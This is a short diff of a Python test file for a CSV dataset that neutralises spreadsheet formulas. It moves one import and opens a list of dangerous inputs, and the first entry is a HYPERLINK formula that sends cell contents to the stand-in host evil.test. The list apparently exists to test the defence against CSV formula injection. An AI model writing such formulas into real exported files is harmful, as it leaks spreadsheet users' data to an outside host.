@@ -7,10 +7,10 @@ import csv
 
 import pandas as pd
 from kedro.io import DataCatalog
+from synthetic import frame_to_csv  # scripts/synthetic.py (pytest pythonpath)
 
 from network_security.datasets import SafeCSVDataset, neutralise_formulas
 from network_security.datasets.chunked_csv import ChunkedCSVDataset
-from network_security.synthetic import frame_to_csv
 
 DANGEROUS = [
     '=HYPERLINK("http://evil.test/?"&A2,"open")',
